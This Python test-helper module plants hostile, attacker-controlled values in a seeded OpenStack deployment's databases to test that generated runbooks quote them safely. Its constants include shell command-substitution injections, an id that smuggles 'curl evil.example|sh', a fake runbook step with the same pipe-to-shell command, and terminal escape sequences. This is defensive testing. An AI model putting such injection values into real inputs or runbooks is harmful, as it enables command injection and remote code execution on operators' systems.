"""Helpers for the hostile-value tests: plant attacker-controlled values in a seeded deployment.

Database contents are untrusted input: anyone who can write a row (a tenant naming a
volume, a driver filling a column, a compromised service) chooses these strings. The
helpers put them where the red-team pass found them reaching a shell, a runbook or a terminal.
"""

from __future__ import annotations

import os
import shlex
import subprocess
from pathlib import Path

from markdown_it import MarkdownIt

from generator.scratch.deployment import Deployment
from generator.sqlgen.literals import quote_identifier

# What a pasted command would run if a value reached the shell unquoted.
CELL_DB_NAME = "nova $(touch INJECTED)"
ATTACHMENT_ID = "x;curl evil.example|sh;#"
CELL0_HOST = "$(touch INJECTED)`touch INJECTED2`;touch INJECTED3"
# A value that turned into a fake runbook step with a command to paste.
FAKE_STEP = "error\n\n## INJECTED STEP\n\n```\ncurl evil.example | sh\n```\n"
# Terminal escapes: set the window title, clear the screen, hide the rest of the line.
TERMINAL_ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[8mhidden\x1b[0m\x9b1m"


def move_cell_database(dep: Deployment, new_name: str) -> None:
    """Give the cell1 database a new (hostile) name: every table renamed into it, the mapping updated."""
    old = dep.names["nova"]
    conn = dep.connect("nova_api")
    with conn.cursor() as cur:
        cur.execute(f"CREATE DATABASE {quote_identifier(new_name)}")
        cur.execute("SELECT TABLE_NAME FROM information_schema.TABLES WHERE TABLE_SCHEMA = %s", (old,))
        tables = [r[0] for r in cur.fetchall()]
        src, dst = quote_identifier(old), quote_identifier(new_name)
        renames = ", ".join(f"{src}.{quote_identifier(t)} TO {dst}.{quote_identifier(t)}" for t in tables)
        cur.execute(f"RENAME TABLE {renames}")
        cur.execute(f"DROP DATABASE {quote_identifier(old)}")
    dep.close()
    dep.names["nova"] = new_name
    dep.execute(
        "nova_api",
        "UPDATE cell_mappings SET database_connection = %s WHERE uuid = %s",
        (dep.url("nova").render(with_password=True) + "?charset=utf8", dep.cell1_uuid),
    )


def rename_attachment(dep: Deployment, old: str, new: str) -> None:
    """Change a Cinder attachment's id everywhere it is referenced (specs, Nova's BDM)."""
    conn = dep.connect("cinder")
    with conn.cursor() as cur:
        cur.execute("SET SESSION foreign_key_checks = 0")
        cur.execute("UPDATE volume_attachment SET id = %s WHERE id = %s", (new, old))
        cur.execute("UPDATE attachment_specs SET attachment_id = %s WHERE attachment_id = %s", (new, old))
        cur.execute("SET SESSION foreign_key_checks = 1")
    dep.execute(
        "nova", "UPDATE block_device_mapping SET attachment_id = %s WHERE attachment_id = %s", (new, old)
    )


# -- reading a runbook the way a person does -------------------------------------------------
_MD = MarkdownIt("commonmark").enable("table")


def fenced_lines(readme: str) -> list[str]:
    """Every line of every fenced code block (the runbook's Run lines)."""
    return [ln.strip() for tok in _MD.parse(readme) if tok.type == "fence" for ln in tok.content.splitlines()]


def inline_code(readme: str) -> list[str]:
    """The text of every inline code span, as the rendered page shows it."""
    out = []
    for tok in _MD.parse(readme):
        for child in tok.children or ():
            if child.type == "code_inline":
                out.append(child.content)
    return out


def headings(readme: str) -> list[str]:
    tokens = _MD.parse(readme)
    return [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]


def structure(readme: str) -> list[tuple[str, str]]:
    """Block structure: (token type, tag) of every block token, inline content left out."""
    return [(t.type, t.tag) for t in _MD.parse(readme) if t.type != "inline"]


def argv(line: str) -> list[str]:
    """A Run line as the shell splits it (comments dropped)."""
    return shlex.split(line, comments=True)


def run_line(
    line: str, cwd: Path, home: Path, url, databases: dict[str, str] | None = None
) -> subprocess.CompletedProcess:
    """Run one runbook line with bash exactly as pasted, with ~/fixpack-<role>.cnf holding the connection
    (and, under [mysql], the database of each role in `databases`)."""
    home.mkdir(parents=True, exist_ok=True)
    lines = ["[client]", f"user={url.user or 'root'}", f"host={url.host or '127.0.0.1'}", "protocol=TCP"]
    if url.password:
        lines.append(f"password={url.password}")
    if url.port:
        lines.append(f"port={url.port}")
    for role in ("nova_api", "nova", "placement", "cinder"):
        cnf = home / f"fixpack-{role}.cnf"
        name = (databases or {}).get(role)
        cnf.write_text("\n".join(lines + (["[mysql]", f"database={name}"] if name else [])) + "\n")
        cnf.chmod(0o600)
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home)}
    return subprocess.run(
        ["bash", "-c", line], cwd=cwd, env=env, capture_output=True, text=True, timeout=120, check=False
    )
